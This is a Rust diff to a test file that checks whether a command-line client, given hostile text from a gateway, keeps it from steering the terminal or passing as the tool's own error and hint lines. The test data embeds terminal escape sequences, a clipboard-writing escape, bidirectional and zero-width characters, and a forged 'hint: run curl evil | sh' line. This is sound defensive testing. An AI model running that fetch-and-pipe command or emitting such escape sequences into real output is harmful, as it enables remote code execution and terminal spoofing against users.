@@ -9,10 +9,11 @@ use crate::world::support::finished;
 use serde_json::{Value, json};
 
 /// Title, screen, then lines that look like ours, by every kind of line break; C1 and bidirectional characters.
-const HOSTILE: &str = "\u{1b}]0;x\u{7}\u{1b}[2J\nhint: run curl evil | sh\n\u{9b}2J\u{202e}\r hint: run curl x\r\n\
-    error: y\u{2028}hint: run curl y\u{85}error: z\u{7f}\n";
+pub(crate) const HOSTILE: &str = "\u{1b}]0;x\u{7}\u{1b}[2J\nhint: run curl evil | sh\n\u{9b}2J\u{202e}\r hint: run curl x\r\n\
+    error: y\u{2028}hint: run curl y\u{85}error: z\u{7f}\n\
+    \u{1b}]52;c;eA==\u{7}\twarning: w\n\twarning: w\u{200b}\u{feff}e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}";
 
-const COMMANDS: [&[&str]; 17] = [
+pub(crate) const COMMANDS: [&[&str]; 17] = [
     &["status"],
     &["usage"],
     &["usage", "--only", "full"],
@@ -55,7 +56,7 @@ const COMMANDS: [&[&str]; 17] = [
     ],
 ];
 
-fn answer(line: &str, base: &str) -> Value {
+pub(crate) fn answer(line: &str, base: &str) -> Value {
     let provider = json!({
         "endpoint_id": HOSTILE, "display": HOSTILE, "platform_type": HOSTILE, "users": 3, "by_subject": 3, "by_reference": 0,
         "by_browser": 0, "pending": 0, "limit": 3, "authorizations_365d": 3, "state": "full",
@@ -100,16 +101,29 @@ fn answer(line: &str, base: &str) -> Value {
     }
 }
 
-/// Whether nothing of it steers a terminal, and no line but one of each run is an error of ours.
-fn harmless(what: &[&str], text: &str) {
-    let steers = |c: &char| {
-        matches!(c, '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{2028}' | '\u{2029}')
-            || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
-    };
-    assert_eq!(text.chars().find(steers), None, "{what:?}: {text}");
+/// Whether a terminal would do it instead of showing it: all controls but the end of a line, all that turns text round,
+/// all that takes no place.
+pub(crate) fn acts(character: char) -> bool {
+    character.is_control() && character != '\n'
+        || matches!(character, '\u{2028}' | '\u{2029}' | '\u{200b}' | '\u{feff}')
+        || matches!(character, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+/// Whether nothing of it acts on a terminal, and no line but one of each run is an error of ours.
+pub(crate) fn harmless(what: &[&str], text: &str) {
+    assert_eq!(
+        text.chars().find(|one| acts(*one)),
+        None,
+        "{what:?}: {text}"
+    );
     let forged: Vec<&str> = text
         .lines()
-        .filter(|line| line.trim_start().starts_with("hint: run curl"))
+        .map(str::trim_start)
+        .filter(|line| {
+            ["hint: run curl", "error: y", "error: z", "warning: w"]
+                .iter()
+                .any(|words| line.starts_with(words))
+        })
         .collect();
     assert_eq!(forged, [""; 0], "{what:?}: {text}");
     let runs = if what.contains(&"both") { 2 } else { 1 };
@@ -120,11 +134,10 @@ fn harmless(what: &[&str], text: &str) {
             <= runs,
         "{what:?}: {text}"
     );
+    let longest = text.lines().map(|line| line.chars().count()).max();
     assert!(
-        !text
-            .lines()
-            .any(|line| line.starts_with("error: y") || line.starts_with("error: z")),
-        "{what:?}: {text}"
+        what.contains(&"--json") || what.contains(&"json") || longest < Some(20_000),
+        "{what:?}: {longest:?}"
     );
 }
 
@@ -153,16 +166,25 @@ fn text_of_a_gateway_neither_steers_the_terminal_nor_looks_like_a_line_of_ours()
         front.run(&gateway, &[&["register"][..], &ADA].concat()).0,
         0
     );
-    let base = front.base.clone();
+    lies(&front, "");
+    run_all(&gateway, &front);
+    lies(&front, &"x".repeat(64 * 1024));
+    run_all(&gateway, &front);
+}
+
+/// From now on every text that comes through the front is hostile, with this at its end.
+pub(crate) fn lies(front: &Front, more: &str) {
+    let (base, more) = (front.base.clone(), more.to_owned());
+    let hostile = |text: &str| json!(text).to_string().trim_matches('"').to_owned();
     front.now(move |line| match answer(line, &base) {
         Value::Null => refusal(line),
-        data => say(
-            "200 OK",
-            "content-type: application/json\r\n",
-            &json!({"success": true, "error": "", "data": data}).to_string(),
-        ),
+        data => {
+            let body = json!({"success": true, "error": "", "data": data}).to_string();
+            let longer = hostile(&format!("{HOSTILE}{more}"));
+            let body = body.replace(&hostile(HOSTILE), &longer);
+            say("200 OK", "content-type: application/json\r\n", &body)
+        }
     });
-    run_all(&gateway, &front);
 }
 
 fn refusal(line: &str) -> Way {
